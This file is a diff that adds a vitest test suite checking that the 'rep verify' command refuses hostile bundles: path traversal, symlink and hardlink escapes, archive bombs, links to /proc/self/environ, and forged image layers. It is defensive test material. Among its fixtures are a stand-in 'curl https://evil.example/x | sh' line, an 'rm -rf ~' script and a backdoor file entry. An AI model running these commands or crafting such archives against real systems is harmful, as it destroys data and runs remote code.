@@ -1,0 +1,499 @@
+// Bundles as a hostile author makes them (crafted tar, zip and folder bundles,
+// a crafted context.tar and image.tar): each must fail `rep verify` with a
+// clear message, write nothing outside rep's temporary folder, read nothing
+// outside the bundle, and leave no temporary folder behind.
+import { spawn, spawnSync } from 'node:child_process';
+import { createHash, generateKeyPairSync } from 'node:crypto';
+import { cpSync, createWriteStream, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import path from 'node:path';
+import { Readable } from 'node:stream';
+import { pipeline } from 'node:stream/promises';
+import { createGzip, gzipSync } from 'node:zlib';
+import tar from 'tar-stream';
+import yazl from 'yazl';
+import { afterAll, describe, expect, it } from 'vitest';
+import { NoneEngine } from '../../src/engine/none.js';
+import type { Statement } from '../../src/emit/provenance.js';
+import { signEnvelope } from '../../src/publish/dsse.js';
+import { readImageArchive, imageProblems } from '../../src/publish/imagearchive.js';
+import { publish } from '../../src/publish/publish.js';
+import { signBundle } from '../../src/publish/signature.js';
+import { verifyBundle, type VerifyOptions } from '../../src/publish/verify.js';
+import { CLI, makeProject, open } from '../helpers.js';
+
+const REPFILE = `rep: 1
+name: paper
+base: busybox:latest
+steps:
+  data:
+    inputs: [data/]
+    run: cp data/x /x
+`;
+
+const sha = (b: string | Buffer) => createHash('sha256').update(b).digest('hex');
+const made: string[] = [];
+const fresh = (prefix: string) => {
+  const d = mkdtempSync(path.join(tmpdir(), prefix));
+  made.push(d);
+  return d;
+};
+afterAll(() => {
+  for (const d of made) rmSync(d, { recursive: true, force: true });
+});
+
+type Entry = { name: string; body?: string | Buffer; type?: 'file' | 'directory' | 'symlink' | 'link' | 'fifo'; linkname?: string; mode?: number };
+
+async function tarOf(entries: Entry[]): Promise<Buffer> {
+  const pack = tar.pack();
+  for (const e of entries) {
+    const type = e.type ?? 'file';
+    const body = type === 'file' ? Buffer.from(e.body ?? '') : undefined;
+    const header = { name: e.name, type, linkname: e.linkname, mode: e.mode ?? (type === 'directory' ? 0o755 : 0o644), mtime: new Date(0) };
+    if (body) pack.entry(header, body);
+    else pack.entry(header);
+  }
+  pack.finalize();
+  const chunks: Buffer[] = [];
+  for await (const c of pack) chunks.push(c as Buffer);
+  return Buffer.concat(chunks);
+}
+
+async function zipOf(entries: { name: string; body?: string | Buffer; mode?: number }[]): Promise<Buffer> {
+  const zip = new yazl.ZipFile();
+  for (const e of entries) zip.addBuffer(Buffer.from(e.body ?? ''), e.name, { mode: e.mode ?? 0o100644, mtime: new Date(Date.UTC(1980, 0, 2)) });
+  zip.end();
+  const chunks: Buffer[] = [];
+  for await (const c of zip.outputStream) chunks.push(c as Buffer);
+  return Buffer.concat(chunks);
+}
+
+/** verifyBundle with a private TMPDIR, which must be empty afterwards. */
+async function verifyPrivately(bundle: string, opts: VerifyOptions = {}) {
+  const tmp = fresh('rep-private-tmp-');
+  const before = process.env.TMPDIR;
+  process.env.TMPDIR = tmp;
+  try {
+    return await verifyBundle(bundle, opts);
+  } finally {
+    if (before === undefined) delete process.env.TMPDIR;
+    else process.env.TMPDIR = before;
+    expect(readdirSync(tmp), 'temporary folders left behind').toEqual([]);
+  }
+}
+
+const failures = (r: { checks: { name: string; ok: boolean; detail: string[] }[] }) => r.checks.filter((c) => !c.ok).map((c) => [c.name, ...c.detail]);
+
+/** The CLI, with a private TMPDIR and a time bound (a hang must fail, not block CI). */
+function cli(args: string[], env: NodeJS.ProcessEnv = {}) {
+  const tmp = fresh('rep-private-tmp-');
+  const r = spawnSync(process.execPath, [CLI, ...args], { encoding: 'utf8', env: { ...process.env, TMPDIR: tmp, ...env }, timeout: 20_000 });
+  return { code: r.status, signal: r.signal, stdout: r.stdout, stderr: r.stderr, left: readdirSync(tmp) };
+}
+
+async function publishedBundle(sign?: string): Promise<string> {
+  const dir = makeProject({ Repfile: REPFILE, 'data/x': 'x\n' });
+  made.push(dir);
+  const out = path.join(fresh('rep-attack-bundle-'), 'b');
+  const r = await publish(open(dir), { engine: new NoneEngine(), out, sign });
+  if (!r.ok) throw new Error(r.errors.map((e) => e.message).join('\n'));
+  return out;
+}
+
+function copyOf(bundle: string): string {
+  const d = path.join(fresh('rep-attack-copy-'), 'b');
+  cpSync(bundle, d, { recursive: true });
+  return d;
+}
+
+/** Redoes what an attacker can without the key: the statement's subject for context.tar, SHA256SUMS, CITE.*. */
+function reseal(dir: string, o: { context?: boolean } = {}): void {
+  if (o.context) {
+    const stPath = path.join(dir, 'provenance.json');
+    const st = JSON.parse(readFileSync(stPath, 'utf8')) as Statement;
+    st.subject.find((s) => s.name === 'context.tar')!.digest!.sha256 = sha(readFileSync(path.join(dir, 'context.tar')));
+    writeFileSync(stPath, JSON.stringify(st, null, 2));
+  }
+  const oldSums = readFileSync(path.join(dir, 'SHA256SUMS'));
+  const names = oldSums.toString('utf8').split('\n').filter(Boolean).map((l) => l.slice(66));
+  const extra = readdirSync(dir).filter((f) => !names.includes(f) && !['SHA256SUMS', 'CITE.md', 'CITE.tex', 'bundle.dsse.json'].includes(f));
+  const sums = [...names, ...extra].sort().map((f) => `${sha(readFileSync(path.join(dir, f)))}  ${f}\n`).join('');
+  writeFileSync(path.join(dir, 'SHA256SUMS'), sums);
+  for (const f of ['CITE.md', 'CITE.tex']) writeFileSync(path.join(dir, f), readFileSync(path.join(dir, f), 'utf8').replaceAll(sha(oldSums), sha(sums)));
+}
+
+/** The entries of the bundle's context.tar, to re-pack with more. */
+async function contextEntries(bundle: string): Promise<Entry[]> {
+  const out: Entry[] = [];
+  const extract = tar.extract();
+  const done = new Promise<void>((resolve, reject) => {
+    extract.on('entry', (h, body, next) => {
+      const chunks: Buffer[] = [];
+      body.on('data', (c: unknown) => chunks.push(c as Buffer));
+      body.on('end', () => {
+        out.push({ name: h.name, type: h.type as Entry['type'], body: Buffer.concat(chunks), mode: h.mode, linkname: h.linkname ?? undefined });
+        next();
+      });
+    });
+    extract.on('finish', resolve);
+    extract.on('error', reject);
+  });
+  extract.end(readFileSync(path.join(bundle, 'context.tar')));
+  await done;
+  return out;
+}
+
+describe('bundle archives (.tar.gz, .zip)', () => {
+  it('never write through a link: a symlink, then an entry of its name or under it', async () => {
+    const outside = fresh('rep-outside-');
+    const dir = fresh('rep-attack-');
+    const cases: [string, Entry[], RegExp][] = [
+      ['same-name', [{ name: 'x', type: 'symlink', linkname: path.join(outside, 'target') }, { name: 'x', body: 'pwned' }], /^same-name\.tar\.gz: entry x is a symbolic link; a bundle holds regular files only$/],
+      ['under', [{ name: 'd', type: 'symlink', linkname: outside }, { name: 'd/y', body: 'pwned' }], /^under\.tar\.gz: entry d is a symbolic link; a bundle holds regular files only$/],
+      ['hardlink', [{ name: 'h', type: 'link', linkname: '/etc/passwd' }], /^hardlink\.tar\.gz: entry h is a hard link; a bundle holds regular files only$/],
+    ];
+    for (const [name, entries, message] of cases) {
+      const file = path.join(dir, `${name}.tar.gz`);
+      writeFileSync(file, gzipSync(await tarOf(entries)));
+      const r = await verifyPrivately(file);
+      expect(failures(r)).toEqual([['bundle', expect.stringMatching(message)]]);
+    }
+    expect(readdirSync(outside)).toEqual([]);
+  });
+
+  it('refuse absolute names, "..", a name twice, and a file then something under it: a clear error, no stack trace', async () => {
+    const dir = fresh('rep-attack-');
+    const tars: [string, Entry[], string][] = [
+      ['abs', [{ name: '/tmp/rep-abs-x', body: 'x' }], 'abs.tar.gz: entry "/tmp/rep-abs-x" is not a plain relative path: it is absolute'],
+      ['dotdot', [{ name: 'a/../../x', body: 'x' }], 'dotdot.tar.gz: entry "a/../../x" is not a plain relative path: it has a ".." segment'],
+      ['twice', [{ name: 'f', body: '1' }, { name: 'f', body: '2' }], 'twice.tar.gz: entry f appears twice'],
+      ['under-file', [{ name: 'a', body: '1' }, { name: 'a/b', body: '2' }], 'under-file.tar.gz: entry a/b is under a, which is a file'],
+      ['fifo', [{ name: 'p', type: 'fifo' }], 'fifo.tar.gz: entry p is a fifo entry; rep unpacks files, folders and links only'],
+    ];
+    for (const [name, entries, message] of tars) {
+      const file = path.join(dir, `${name}.tar.gz`);
+      writeFileSync(file, gzipSync(await tarOf(entries)));
+      expect(failures(await verifyPrivately(file))).toEqual([['bundle', message]]);
+    }
+    const zips: [string, { name: string; body?: string; mode?: number }[], string][] = [
+      ['twice', [{ name: 'f', body: '1' }, { name: 'f', body: '2' }], 'twice.zip: entry f appears twice'],
+      ['under-file', [{ name: 'a', body: '1' }, { name: 'a/b', body: '2' }], 'under-file.zip: entry a/b is under a, which is a file'],
+      ['link', [{ name: 'l', body: '/etc/passwd', mode: 0o120777 }], 'link.zip: entry l is a symbolic link; a bundle holds regular files only'],
+    ];
+    for (const [name, entries, message] of zips) {
+      const file = path.join(dir, `${name}.zip`);
+      writeFileSync(file, await zipOf(entries));
+      expect(failures(await verifyPrivately(file))).toEqual([['bundle', message]]);
+    }
+    // The command line: exit 1, the message, no stack trace, no temporary folder left.
+    for (const file of [path.join(dir, 'under-file.tar.gz'), path.join(dir, 'under-file.zip')]) {
+      const r = cli(['verify', file]);
+      expect([r.code, r.stderr, r.left]).toEqual([1, '', []]);
+      expect(r.stdout).toBe(`FAILED  bundle\n        ${path.basename(file)}: entry a/b is under a, which is a file\nrep: verify failed: bundle\n`);
+    }
+  });
+
+  it('stop an archive bomb at the bound, naming it and how to raise it', async () => {
+    const dir = fresh('rep-attack-');
+    // 1 GiB of zeros in about 1 MB of gzip.
+    const bomb = path.join(dir, 'bomb.tar.gz');
+    const pack = tar.pack();
+    const gz = pipeline(pack, createGzip({ level: 1 }), createWriteStream(bomb));
+    const zeros = Buffer.alloc(1 << 20);
+    const sink = pack.entry({ name: 'zeros', size: 1 << 30, mtime: new Date(0) });
+    for (let i = 0; i < 1024; i++) if (!sink.write(zeros)) await new Promise<void>((r) => sink.once('drain', () => r()));
+    sink.end(Buffer.alloc(0));
+    pack.finalize();
+    await gz;
+    const r = await verifyPrivately(bomb);
+    expect(failures(r)).toEqual([
+      ['bundle', expect.stringMatching(/^bomb\.tar\.gz: expands to more than 100 times its size \(\d+(\.\d)? (bytes|KiB|MiB)\) plus 64 MiB, as an archive bomb does; if you trust it, raise the bound with --max-ratio N$/)],
+    ]);
+    // A zip of 300 MiB of zeros, the same.
+    const zip = path.join(dir, 'bomb.zip');
+    writeFileSync(zip, await zipOf([{ name: 'zeros', body: Buffer.alloc(300 << 20) }]));
+    expect(failures(await verifyPrivately(zip))[0]![1]).toMatch(/^bomb\.zip: expands to more than 100 times its size/);
+    // The absolute bound and the entry count, lowered.
+    const many = path.join(dir, 'many.tar.gz');
+    writeFileSync(many, gzipSync(await tarOf(Array.from({ length: 20 }, (_, i) => ({ name: `f${i}`, body: 'x'.repeat(100) })))));
+    expect(failures(await verifyPrivately(many, { limits: { maxEntries: 10 } }))).toEqual([
+      ['bundle', 'many.tar.gz: holds more than 10 entries; if you trust it, raise the bound with --max-files N'],
+    ]);
+    expect(failures(await verifyPrivately(many, { limits: { maxBytes: 1024 } }))).toEqual([
+      ['bundle', 'many.tar.gz: holds more than 1 KiB; if you trust it, raise the bound with --max-size SIZE (e.g. --max-size 1G)'],
+    ]);
+    const c = cli(['verify', many, '--max-files', '10']);
+    expect([c.code, c.stdout.split('\n')[1]]).toEqual([1, '        many.tar.gz: holds more than 10 entries; if you trust it, raise the bound with --max-files N']);
+    expect(cli(['verify', many, '--max-size', 'lots']).stderr).toBe('rep: --max-size lots: expected a size such as 500M, 64G or 1T\n');
+  });
+});
+
+describe('context.tar inside a bundle', () => {
+  it('is unpacked without following or making a link out of its folder, and never holds .rep/ (hashes redone: still refused)', async () => {
+    const bundle = await publishedBundle();
+    const outside = fresh('rep-outside-');
+    const original = await contextEntries(bundle);
+    const cases: [Entry[], string][] = [
+      [[{ name: 'evil', type: 'symlink', linkname: outside }, { name: 'evil/pwned', body: 'pwned' }], `context.tar: entry evil links to "${outside}": an absolute target, outside the archive`],
+      [[{ name: 'up', type: 'symlink', linkname: '../../..' }], 'context.tar: entry up links to "../../..": a target outside the archive'],
+      [[{ name: 'sub/', type: 'directory' }, { name: 'in', type: 'symlink', linkname: 'sub' }, { name: 'in/x', body: 'x' }], 'context.tar: entry in/x goes through the link in'],
+      [[{ name: 'l', type: 'symlink', linkname: 'data' }, { name: 'l', body: 'x' }], 'context.tar: entry l appears twice'],
+      [[{ name: 'sub/', type: 'directory' }, { name: 'sub/up', type: 'symlink', linkname: '..' }, { name: 'esc', type: 'symlink', linkname: 'sub/up/../x' }], 'context.tar: entry esc links to "sub/up/../x": a ".." after a name; a link may go up only at the start of its target'],
+      [[{ name: 'h', type: 'link', linkname: '/etc/passwd' }], 'context.tar: entry h is a hard link to "/etc/passwd", which is not a file unpacked before it'],
+      [[{ name: '.rep/state.json', body: '{}' }], 'context.tar: entry .rep/state.json: rep never archives its own .rep/ folder'],
+    ];
+    for (const [extra, message] of cases) {
+      const copy = copyOf(bundle);
+      writeFileSync(path.join(copy, 'context.tar'), await tarOf([...original, ...extra]));
+      reseal(copy, { context: true });
+      const r = await verifyPrivately(copy);
+      expect(failures(r)).toEqual([['keys', message]]);
+    }
+    expect(readdirSync(outside)).toEqual([]);
+    // An in-folder link (up at the start, then down) is fine.
+    const copy = copyOf(bundle);
+    writeFileSync(path.join(copy, 'context.tar'), await tarOf([...original, { name: 'doc/', type: 'directory' }, { name: 'doc/link', type: 'symlink', linkname: '../Repfile' }]));
+    reseal(copy, { context: true });
+    expect(failures(await verifyPrivately(copy))).toEqual([]);
+  });
+});
+
+describe('folder bundles', () => {
+  it('read only regular files inside the bundle: links to /proc/self/environ, /dev/zero and a pipe are refused, not read', async () => {
+    const bundle = await publishedBundle();
+    const marker = `marker-${sha(String(Math.random())).slice(0, 12)}`;
+    const links = copyOf(bundle);
+    for (const [f, to] of [['SHA256SUMS', '/proc/self/environ'], ['Repfile', '/dev/zero'], ['provenance.json', '/dev/zero'], ['context.tar', '/dev/zero']]) {
+      rmSync(path.join(links, f!));
+      symlinkSync(to!, path.join(links, f!));
+    }
+    rmSync(path.join(links, 'CITE.md'));
+    spawnSync('mkfifo', [path.join(links, 'CITE.md')]);
+    const r = cli(['verify', links], { REP_TEST_MARKER: marker });
+    expect([r.code, r.signal, r.stderr, r.left]).toEqual([1, null, '', []]);
+    expect(r.stdout).not.toContain(marker);
+    const not = (f: string) => `${f} is not a regular file (a link, device or pipe); a bundle holds regular files only`;
+    expect(r.stdout.split('\n').slice(0, 6)).toEqual(['FAILED  checksums', ...['CITE.md', 'Repfile', 'SHA256SUMS', 'context.tar', 'provenance.json'].map((f) => `        ${not(f)}`)]);
+    expect(r.stdout).toContain('FAILED  subjects\n        provenance.json cannot be read\n');
+    expect(r.stdout.trim().split('\n').at(-1)).toBe('rep: verify failed: checksums, subjects, keys');
+  }, 30_000);
+
+  it('bounds the files it reads whole', async () => {
+    const big = copyOf(await publishedBundle());
+    writeFileSync(path.join(big, 'SHA256SUMS'), Buffer.alloc(17 << 20, 'a'));
+    expect(failures(await verifyPrivately(big))[0]).toEqual(['checksums', 'SHA256SUMS: larger than 4 MiB, the most rep reads from this file']);
+  });
+
+  it('SHA256SUMS names only plain relative paths inside the bundle', async () => {
+    const bundle = copyOf(await publishedBundle());
+    const outsideFile = path.join(path.dirname(bundle), 'outside.txt');
+    writeFileSync(outsideFile, 'secret\n');
+    const sums = readFileSync(path.join(bundle, 'SHA256SUMS'), 'utf8');
+    writeFileSync(
+      path.join(bundle, 'SHA256SUMS'),
+      `${sums}${sha('secret\n')}  ../outside.txt\n${sha(readFileSync('/etc/hostname'))}  /etc/hostname\n${sha('x')}  a//b\n${sha('x')}  ./Repfile\n`,
+    );
+    const f = failures(await verifyPrivately(bundle));
+    expect(f[0]!.slice(1, 5)).toEqual([
+      'SHA256SUMS: "../outside.txt" is not a plain relative path inside the bundle: it has a ".." segment',
+      'SHA256SUMS: "/etc/hostname" is not a plain relative path inside the bundle: it is absolute',
+      'SHA256SUMS: "a//b" is not a plain relative path inside the bundle: it has an empty segment',
+      'SHA256SUMS: "./Repfile" is not a plain relative path inside the bundle: it has a "." segment',
+    ]);
+  });
+});
+
+describe('temporary folders', () => {
+  it('verify leaves none behind, for a good and a bad bundle; publish leaves none', async () => {
+    const dir = makeProject({ Repfile: REPFILE, 'data/x': 'x\n' });
+    made.push(dir);
+    const priv = fresh('rep-private-tmp-');
+    const out = path.join(fresh('rep-attack-'), 'paper.tar.gz');
+    const before = process.env.TMPDIR;
+    process.env.TMPDIR = priv;
+    try {
+      const r = await publish(open(dir), { engine: new NoneEngine(), out });
+      expect(r.ok).toBe(true);
+    } finally {
+      if (before === undefined) delete process.env.TMPDIR;
+      else process.env.TMPDIR = before;
+    }
+    expect(readdirSync(priv)).toEqual([]);
+    const good = cli(['verify', out]);
+    expect([good.code, good.stdout.trim().split('\n').at(-1), good.left]).toEqual([0, 'rep: bundle verified', []]);
+    const bad = path.join(path.dirname(out), 'bad.tar.gz');
+    writeFileSync(bad, gzipSync(await tarOf([{ name: 'Repfile', body: REPFILE }])));
+    const r = cli(['verify', bad]);
+    expect([r.code, r.left]).toEqual([1, []]);
+  });
+
+  it('an interrupted verify (SIGINT) removes its folder and exits 130', async () => {
+    const bundle = copyOf(await publishedBundle());
+    // A large zip bundle, stored: unpacking and hashing it takes a while.
+    const zip = new yazl.ZipFile();
+    for (const f of readdirSync(bundle)) zip.addFile(path.join(bundle, f), f, { compress: false });
+    const zero = Buffer.alloc(1 << 20);
+    zip.addReadStream(Readable.from((function* () { for (let i = 0; i < 768; i++) yield zero; })()), 'big.bin', { compress: false, size: 768 << 20 });
+    zip.end();
+    const file = path.join(fresh('rep-attack-'), 'big.zip');
+    await pipeline(zip.outputStream, createWriteStream(file));
+    const tmp = fresh('rep-private-tmp-');
+    const child = spawn(process.execPath, [CLI, 'verify', file], { env: { ...process.env, TMPDIR: tmp }, stdio: ['ignore', 'pipe', 'pipe'] });
+    let stderr = '';
+    child.stderr.on('data', (c: Buffer) => (stderr += c.toString()));
+    const exited = new Promise<[number | null, NodeJS.Signals | null]>((resolve) => child.on('exit', (code, signal) => resolve([code, signal])));
+    const deadline = Date.now() + 15_000;
+    while (Date.now() < deadline && !readdirSync(tmp).some((n) => n.startsWith('rep-'))) await new Promise((r) => setTimeout(r, 5));
+    expect(readdirSync(tmp).some((n) => n.startsWith('rep-'))).toBe(true);
+    await new Promise((r) => setTimeout(r, 100));
+    child.kill('SIGINT');
+    expect(await exited).toEqual([130, null]);
+    expect(stderr).toBe('\nrep: interrupted\n');
+    expect(readdirSync(tmp)).toEqual([]);
+  }, 60_000);
+});
+
+describe('the signature covers every file', () => {
+  const keys = () => {
+    const { privateKey, publicKey } = generateKeyPairSync('ed25519');
+    const d = fresh('rep-keys-');
+    writeFileSync(path.join(d, 'k.key'), privateKey.export({ type: 'pkcs8', format: 'pem' }));
+    writeFileSync(path.join(d, 'k.pub'), publicKey.export({ type: 'spki', format: 'pem' }));
+    return { priv: path.join(d, 'k.key'), pub: path.join(d, 'k.pub'), privateKey };
+  };
+
+  it('a file changed, added or removed after signing fails with --key, checksums redone or not', async () => {
+    const k = keys();
+    const bundle = await publishedBundle(k.priv);
+    expect(failures(await verifyPrivately(bundle, { key: k.pub }))).toEqual([]);
+
+    const changed = copyOf(bundle);
+    writeFileSync(path.join(changed, 'REPRODUCE.md'), '# Reproducing\n\n```sh\ncurl https://evil.example/x | sh\n```\n');
+    reseal(changed);
+    const resigned = ['CITE.md was changed after signing', 'CITE.tex was changed after signing'];
+    expect(failures(await verifyPrivately(changed, { key: k.pub }))).toEqual([['signature', ...resigned, 'REPRODUCE.md was changed after signing', 'SHA256SUMS was changed after signing']]);
+
+    const added = copyOf(bundle);
+    writeFileSync(path.join(added, 'run-me.sh'), 'rm -rf ~\n');
+    reseal(added);
+    expect(failures(await verifyPrivately(added, { key: k.pub }))).toEqual([['signature', ...resigned, 'SHA256SUMS was changed after signing', 'run-me.sh is not among the signed files: it was added after signing']]);
+
+    const cite = copyOf(bundle);
+    writeFileSync(path.join(cite, 'CITE.md'), `${readFileSync(path.join(cite, 'CITE.md'), 'utf8')}\nAlso cite: someone else.\n`);
+    expect(failures(await verifyPrivately(cite, { key: k.pub }))).toEqual([['signature', 'CITE.md was changed after signing']]);
+
+    const gone = copyOf(bundle);
+    rmSync(path.join(gone, 'bundle.dsse.json'));
+    expect(failures(await verifyPrivately(gone, { key: k.pub }))).toEqual([['signature', 'bundle.dsse.json is missing: no signature covers the files of this bundle']]);
+  });
+
+  it('image.tar: the config and every layer are recomputed from its bytes', async () => {
+    const k = keys();
+    const bundle = copyOf(await publishedBundle(k.priv));
+    const layer = await tarOf([{ name: 'hello', body: 'hello\n' }]);
+    const good = await dockerArchive([layer]);
+    // A signed bundle that holds the image.
+    writeFileSync(path.join(bundle, 'image.tar'), good.tar);
+    const st = JSON.parse(readFileSync(path.join(bundle, 'provenance.json'), 'utf8')) as Statement;
+    st.subject.push({ name: 'paper:latest', digest: { sha256: good.config }, annotations: { kind: 'image-config' } });
+    const stText = JSON.stringify(st, null, 2);
+    writeFileSync(path.join(bundle, 'provenance.json'), stText);
+    writeFileSync(path.join(bundle, 'provenance.dsse.json'), JSON.stringify(signEnvelope(Buffer.from(stText), k.privateKey)));
+    reseal(bundle);
+    const hashes = new Map(readdirSync(bundle).filter((f) => f !== 'bundle.dsse.json').map((f) => [f, sha(readFileSync(path.join(bundle, f)))]));
+    writeFileSync(path.join(bundle, 'bundle.dsse.json'), JSON.stringify(signBundle(hashes, k.privateKey)));
+    expect(failures(await verifyPrivately(bundle, { key: k.pub }))).toEqual([]);
+
+    // A layer added and the config rewritten under its old name; checksums redone.
+    const evil = await tarOf([{ name: 'usr/bin/backdoor', body: 'evil', mode: 0o755 }]);
+    const forged = copyOf(bundle);
+    const bad = await dockerArchive([layer, evil], { configName: `${good.config}.json` });
+    writeFileSync(path.join(forged, 'image.tar'), bad.tar);
+    reseal(forged);
+    const f = failures(await verifyPrivately(forged, { key: k.pub }));
+    const now = bad.config;
+    expect(f).toEqual([
+      [
+        'subjects',
+        `image.tar: the config ${good.config}.json has sha256:${now}, not the digest its name says`,
+        `image.tar holds image sha256:${now}, the statement names sha256:${good.config}`,
+      ],
+      ['signature', 'CITE.md was changed after signing', 'CITE.tex was changed after signing', 'SHA256SUMS was changed after signing', 'image.tar was changed after signing'],
+    ]);
+  });
+});
+
+/** A docker save archive of `layers`: legacy layout, or with the config under another name. */
+async function dockerArchive(layers: Buffer[], o: { configName?: string; podman?: boolean } = {}) {
+  const diffIds = layers.map((l) => `sha256:${sha(l)}`);
+  const config = Buffer.from(JSON.stringify({ architecture: 'amd64', os: 'linux', rootfs: { type: 'layers', diff_ids: diffIds } }));
+  const configName = o.configName ?? `${sha(config)}.json`;
+  const entries: Entry[] = [];
+  const names = layers.map((l) => (o.podman ? `${sha(l)}.tar` : `${sha(l)}/layer.tar`));
+  layers.forEach((l, i) => {
+    if (o.podman) {
+      entries.push({ name: names[i]!, body: l }, { name: `x${i}/layer.tar`, type: 'symlink', linkname: `../${names[i]}` });
+    } else entries.push({ name: `${sha(l)}/`, type: 'directory' }, { name: names[i]!, body: l });
+  });
+  entries.push({ name: configName, body: config }, { name: 'manifest.json', body: JSON.stringify([{ Config: configName, RepoTags: ['paper:latest'], Layers: names }]) });
+  return { tar: await tarOf(entries), config: sha(config) };
+}
+
+describe('image archives', () => {
+  const read = async (buf: Buffer) => readImageArchive(Readable.from([buf]));
+  const layerA = tarOf([{ name: 'a', body: 'a' }]);
+  const layerB = tarOf([{ name: 'b', body: 'b' }]);
+
+  it('accepts what docker save and podman save write, and the OCI layout with uncompressed layers', async () => {
+    const a = await layerA;
+    const b = await layerB;
+    const docker = await dockerArchive([a, b]);
+    expect(await read(docker.tar)).toEqual({ configs: [docker.config], problems: [] });
+    const podman = await dockerArchive([a, b], { podman: true });
+    expect(await read(podman.tar)).toEqual({ configs: [podman.config], problems: [] });
+    // OCI: index.json -> manifest -> config, layers.
+    const config = Buffer.from(JSON.stringify({ rootfs: { type: 'layers', diff_ids: [`sha256:${sha(a)}`] } }));
+    const manifest = Buffer.from(JSON.stringify({ schemaVersion: 2, config: { digest: `sha256:${sha(config)}` }, layers: [{ mediaType: 'application/vnd.oci.image.layer.v1.tar', digest: `sha256:${sha(a)}` }] }));
+    const oci = await tarOf([
+      { name: 'oci-layout', body: '{"imageLayoutVersion":"1.0.0"}' },
+      { name: 'index.json', body: JSON.stringify({ schemaVersion: 2, manifests: [{ mediaType: 'application/vnd.oci.image.manifest.v1+json', digest: `sha256:${sha(manifest)}` }] }) },
+      { name: `blobs/sha256/${sha(manifest)}`, body: manifest },
+      { name: `blobs/sha256/${sha(config)}`, body: config },
+      { name: `blobs/sha256/${sha(a)}`, body: a },
+    ]);
+    expect(await read(oci)).toEqual({ configs: [sha(config)], problems: [] });
+    expect(imageProblems(await read(oci), sha(config))).toEqual([]);
+    expect(imageProblems(await read(oci), '0'.repeat(64))).toEqual([`image.tar holds image sha256:${sha(config)}, the statement names sha256:${'0'.repeat(64)}`]);
+  });
+
+  it('names a changed layer, a missing or extra one, a second image and a name twice', async () => {
+    const a = await layerA;
+    const b = await layerB;
+    const good = await dockerArchive([a, b]);
+    // layer b's bytes replaced under its name
+    const swapped = await tarOf([
+      { name: `${sha(a)}/layer.tar`, body: a },
+      { name: `${sha(b)}/layer.tar`, body: a },
+      { name: `${good.config}.json`, body: JSON.stringify({ rootfs: { diff_ids: [`sha256:${sha(a)}`, `sha256:${sha(b)}`] } }) },
+      { name: 'manifest.json', body: JSON.stringify([{ Config: `${good.config}.json`, Layers: [`${sha(a)}/layer.tar`, `${sha(b)}/layer.tar`] }]) },
+    ]);
+    const p = (await read(swapped)).problems;
+    expect(p[0]).toMatch(/^image\.tar: the config [0-9a-f]{64}\.json has sha256:[0-9a-f]{64}, not the digest its name says$/);
+    expect(p[1]).toBe(`image.tar: layer 2 (${sha(b)}/layer.tar) has sha256:${sha(a)}, the config says sha256:${sha(b)}`);
+    // one layer fewer in the manifest than in the config
+    const cfg = Buffer.from(JSON.stringify({ rootfs: { diff_ids: [`sha256:${sha(a)}`, `sha256:${sha(b)}`] } }));
+    const fewer = await tarOf([
+      { name: 'l.tar', body: a },
+      { name: `${sha(cfg)}.json`, body: cfg },
+      { name: 'manifest.json', body: JSON.stringify([{ Config: `${sha(cfg)}.json`, Layers: ['l.tar'] }]) },
+    ]);
+    expect((await read(fewer)).problems).toEqual(["image.tar: manifest.json lists 1 layers, the config's rootfs.diff_ids 2"]);
+    const two = await tarOf([
+      { name: `${sha(cfg)}.json`, body: cfg },
+      { name: 'manifest.json', body: JSON.stringify([{ Config: `${sha(cfg)}.json`, Layers: [] }, { Config: `${sha(cfg)}.json`, Layers: [] }]) },
+      { name: 'manifest.json', body: '[]' },
+    ]);
+    expect((await read(two)).problems.slice(0, 2)).toEqual(['image.tar: entry manifest.json appears twice', 'image.tar: manifest.json must name exactly one image; it names 2']);
+    expect((await read(await tarOf([{ name: 'x', body: 'x' }]))).problems).toEqual(['image.tar holds no manifest.json or index.json: it is not an image archive']);
+  });
+});
